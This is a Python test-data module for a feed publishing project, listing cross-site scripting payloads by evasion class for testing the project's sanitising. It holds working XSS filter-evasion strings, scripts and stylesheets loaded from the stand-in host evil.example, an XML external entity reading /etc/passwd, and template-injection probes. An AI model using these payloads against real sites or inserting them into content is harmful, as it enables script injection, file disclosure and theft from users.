"""Our own cross-site scripting payloads, one or more for each class of evasion.

The classes follow the OWASP XSS filter evasion cheat sheet's families (tags in many
spellings, event handlers, script URLs with obfuscation, SVG and MathML, embedding
elements, CSS, attribute breakouts, parser confusion, encodings) plus what a feed
publisher adds: template syntax, Markdown links and images, and XML/XSLT tricks for the
feeds' browser view. The strings are written for this project.

A payload that manages to run sets ``window.__xss`` (on itself, its parent or its top)
or opens a dialog with ``alert``/``confirm``/``prompt``; a payload that manages to load
something names a host under ``evil.example``. Each is at most 90 characters, so that it
fits every field it is sent in (a category name is at most 100, with a prefix).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    kind: str
    text: str


SCRIPT_TAG = "script tag"
EVENT_HANDLER = "event handler"
SCRIPT_URL = "script URL"
SVG_MATHML = "SVG and MathML"
EMBEDDING = "embedding element"
CSS = "CSS"
BREAKOUT = "attribute breakout"
PARSER = "unclosed tag and parser confusion"
ENCODING = "encoding"
TEMPLATE = "template injection"
MARKDOWN = "Markdown"
XML = "XML and XSLT"
BARE_URL = "URL field value"

_RAW: dict[str, list[str]] = {
    SCRIPT_TAG: [
        "<script>window.__xss=1</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<ScRiPt >window.__xss=2</sCrIpT >",
        "<script\ttype=text/javascript>alert(2)</script>",
        "<script/xss>window.__xss=3</script>",
        "<script src=https://evil.example/a.js></script>",
        "<script src=//evil.example/b.js></script>",
        "<script src=data:,window.__xss=4></script>",
        '<script a=">" src="https://evil.example/c.js"></script>',
        "<<script>alert(3);//<</script>",
        "<scr<script>ipt>alert(4)</scr</script>ipt>",
        "<script>\\u0061lert(5)</script>",
        "<script>eval(atob('YWxlcnQoNik='))</script>",
        "<script>setTimeout('window.__xss=5',0)</script>",
        "<script>alert(7)</script",
    ],
    EVENT_HANDLER: [
        "<img src=x onerror=alert(10)>",
        '<img src="x" onerror="window.__xss=10">',
        "<IMG SRC=x OnErRoR=alert(11)>",
        "<img/src=x/onerror=alert(12)>",
        "<img src=x onerror\n=alert(13)>",
        "<img src=x onerror=&#97;lert(14)>",
        '<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(15)">',
        "<img src=x onerror=alert`16`>",
        "<img src=x:alert(17) onerror=eval(src)>",
        "<svg onload=alert(18)>",
        "<svg/onload=window.__xss=11>",
        "<body onload=alert(19)>",
        "<body onpageshow=window.__xss=12>",
        "<details open ontoggle=alert(20)>",
        "<video><source onerror=alert(21)></video>",
        "<video src=x onerror=window.__xss=13></video>",
        "<audio src=x onerror=alert(22)>",
        "<input autofocus onfocus=alert(23)>",
        "<select autofocus onfocus=window.__xss=14></select>",
        "<textarea autofocus onfocus=alert(24)></textarea>",
        "<marquee onstart=alert(25)>x</marquee>",
        '<div onmouseover="alert(26)" style="position:fixed;inset:0">x</div>',
        "<a onclick=alert(27) href=#>x</a>",
        "<x onfocus=alert(28) tabindex=1 autofocus>x</x>",
        "<style onload=alert(29)></style>",
        "<iframe onload=window.__xss=15></iframe>",
        "<object data=x onerror=alert(30)></object>",
        "<form><button formaction=javascript:alert(31)>x</button></form>",
    ],
    SCRIPT_URL: [
        '<a href="javascript:alert(40)">x</a>',
        '<a href="JaVaScRiPt:alert(41)">x</a>',
        '<a href="jav&#x09;ascript:alert(42)">x</a>',
        '<a href="jav\tascript:alert(43)">x</a>',
        '<a href="java&#0;script:alert(44)">x</a>',
        '<a href=" &#14; javascript:alert(45)">x</a>',
        '<a href="javascript&colon;alert(46)">x</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(47)">x</a>',
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(48)">x</a>',
        '<a href="javascript://%0aalert(49)">x</a>',
        '<a href="vbscript:msgbox(50)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1MSk8L3NjcmlwdD4=">x</a>',
        '<a href="data:text/html,<script>alert(52)</script>">x</a>',
        '<img src="javascript:alert(53)">',
        "<img lowsrc=javascript:alert(54) dynsrc=javascript:alert(55)>",
        '<iframe src="javascript:alert(56)"></iframe>',
        '<table background="javascript:alert(57)"><tr><td>x</td></tr></table>',
        '<a href="https://ok.example/" ping="https://evil.example/ping">x</a>',
    ],
    SVG_MATHML: [
        '<svg><a xlink:href="javascript:alert(60)"><text x=9 y=9>x</text></a></svg>',
        '<svg><a href="javascript:alert(61)"><rect width=99 height=99 /></a></svg>',
        "<svg><foreignObject><img src=x onerror=alert(62)></foreignObject></svg>",
        "<svg><animate onbegin=alert(63) attributeName=x dur=1s>",
        "<svg><set onbegin=window.__xss=60 attributeName=x to=1>",
        "<svg><script href=data:,alert(64) />",
        "<svg><style><img src=x onerror=alert(65)></style></svg>",
        "<svg><![CDATA[><img src=x onerror=alert(66)>]]></svg>",
        '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(67)>#x"/></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(68)>",
        '<math href="javascript:alert(69)">x</math>',
        "<math><maction actiontype=statusline xlink:href=javascript:alert(70)>x</maction></math>",
    ],
    EMBEDDING: [
        '<iframe srcdoc="<script>parent.__xss=80</script>"></iframe>',
        '<iframe srcdoc="&lt;img src=x onerror=alert(80)&gt;"></iframe>',
        '<iframe src="https://evil.example/frame"></iframe>',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(81)">',
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        '<base href="https://evil.example/">',
        '<base href="javascript:alert(82)//">',
        '<object data="javascript:alert(83)"></object>',
        '<object data="data:text/html,<script>alert(84)</script>"></object>',
        '<embed src="data:image/svg+xml,<svg onload=alert(85)>">',
        '<embed src="https://evil.example/x.swf">',
        '<link rel=stylesheet href="https://evil.example/x.css">',
        '<form action="https://evil.example/"><input name=q value=x></form>',
        "<portal src=https://evil.example/></portal>",
    ],
    CSS: [
        '<div style="background:url(javascript:alert(90))">x</div>',
        '<div style="width:expression(alert(91))">x</div>',
        '<span style="x:\\65xpression(alert(92))">x</span>',
        "<style>@import 'https://evil.example/x.css';</style>",
        '<style>body{background:url("javascript:alert(93)")}</style>',
        '<p style="behavior:url(https://evil.example/x.htc)">x</p>',
        '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
        '<p style="background-image:url(https://evil.example/bg.png)">x</p>',
        '<link rel="stylesheet" href="javascript:alert(94)">',
    ],
    BREAKOUT: [
        '" onmouseover="alert(100)',
        "' onfocus='alert(101)' autofocus='",
        '"><img src=x onerror=alert(102)>',
        "'><img src=x onerror=alert(103)>",
        '" autofocus onfocus="window.__xss=100" x="',
        '\\"><svg onload=alert(104)>',
        '" style="x:expression(alert(105))',
        "'';!--\"<xss>=&{()}",
        "</title><script>alert(106)</script>",
        "</textarea><script>alert(107)</script>",
        "</style><script>alert(108)</script>",
        '</a><a href="javascript:alert(109)">x</a>',
    ],
    PARSER: [
        "<img src=x onerror=alert(110)//",
        "<svg onload=alert(111)//",
        "<iframe src=javascript:alert(112)",
        "<b onmouseover=alert(113)>x",
        '<a href="javascript:alert(114)',
        '<img """><script>alert(115)</script>">',
        "<img src='x' onerror=\"alert('116')\">",
        '<a title="a\'b" href=\'javascript:alert("117")\'>x</a>',
        "<textarea><script>alert(118)</script>",
        "<!--<script>alert(119)</script>-->",
        "<!--><img src=x onerror=alert(120)>-->",
        "<!--[if gte IE 4]><script>alert(121)</script><![endif]-->",
        '<noscript><p title="</noscript><img src=x onerror=alert(122)>">',
        "<xmp><script>alert(123)</script></xmp>",
        "<noembed><img src=x onerror=alert(124)></noembed>",
        "<title><img src=x onerror=alert(125)></title>",
        "<plaintext><script>alert(126)</script>",
        "<template><img src=x onerror=alert(127)></template>",
    ],
    ENCODING: [
        "&lt;script&gt;alert(130)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(131)&amp;lt;/script&amp;gt;",
        "%3Cscript%3Ealert(132)%3C%2Fscript%3E",
        "\\u003cscript\\u003ealert(133)\\u003c/script\\u003e",
        "\\x3cscript\\x3ealert(134)\\x3c/script\\x3e",
        "+ADw-script+AD4-alert(135)+ADw-/script+AD4-",
        "\uff1cscript\uff1ealert(136)\uff1c/script\uff1e",  # fullwidth < and >
        "<scr\u200bipt>alert(137)</scr\u200bipt>",
        "<img src=x onerror=a\\u006cert(138)>",
        "<\u0130mg src=x onerror=alert(139)>",
    ],
    TEMPLATE: [
        "{{7*7}}",
        "${7*7}",
        "{{constructor.constructor('alert(140)')()}}",
        "{{ config.items() }}",
        "{% for x in range(3) %}{{x}}{% endfor %}",
        "<%= 7*7 %>",
        "#{7*7}",
        "[[${7*7}]]",
        "{{'a'|safe}}<script>alert(141)</script>",
    ],
    MARKDOWN: [
        "[x](javascript:alert(150))",
        "[x](JAVASCRIPT:alert(151))",
        "[x]( javascript:alert(152) )",
        "[x](javascript&#58;alert(153))",
        "[x](java%0ascript:alert(154))",
        "[x](vbscript:msgbox(155))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxNTYpPC9zY3JpcHQ+)",
        "![x](javascript:alert(157))",
        '![x](x" onerror="alert(158))',
        '![x](https://img.example/a.png "a\\" onerror=\\"alert(159))',
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTYwKT4=)",
        "<javascript:alert(161)>",
        "[x][r]\n\n[r]: javascript:alert(162)",
        "[<img src=x onerror=alert(163)>](https://ok.example/)",
        "`<script>alert(164)</script>`",
    ],
    XML: [
        "]]><script>alert(170)</script><![CDATA[",
        '</title><script xmlns="http://www.w3.org/1999/xhtml">alert(171)</script>',
        '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
        "<xsl:value-of select=\"document('https://evil.example/')\"/>",
        "&#x3C;script&#x3E;alert(172)&#x3C;/script&#x3E;",
    ],
    BARE_URL: [
        "javascript:alert(180)",
        " JavaScript:window.__xss=180",
        "java\tscript:alert(181)",
        "vbscript:msgbox(182)",
        "data:text/html,<script>alert(183)</script>",
        "//evil.example/x.png",
        'https://img.example/a.png" onerror="alert(184)',
        "https://img.example/a.png'><script>alert(185)</script>",
        'https://img.example/#"onmouseover="alert(186)"',
        '/static/x.png" onerror="alert(187)',
    ],
}

PAYLOADS: list[Payload] = [Payload(kind, text) for kind, texts in _RAW.items() for text in texts]
KINDS: list[str] = list(_RAW)
